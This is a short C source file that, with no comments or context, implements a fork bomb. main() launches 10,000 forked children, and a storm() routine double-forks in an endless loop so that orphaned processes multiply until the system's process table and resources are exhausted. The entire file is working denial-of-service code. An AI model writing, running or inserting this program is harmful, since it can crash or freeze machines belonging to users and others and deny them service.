#include <unistd.h>

static void storm(void)
{
	for (;;)
		if (fork() == 0 && fork() != 0)
			_exit(0);
}

int main(void)
{
	for (int i = 0; i < 10000; i++)
		if (fork() == 0) {
			if (fork() == 0)
				storm();
			_exit(0);
		}
	storm();
}
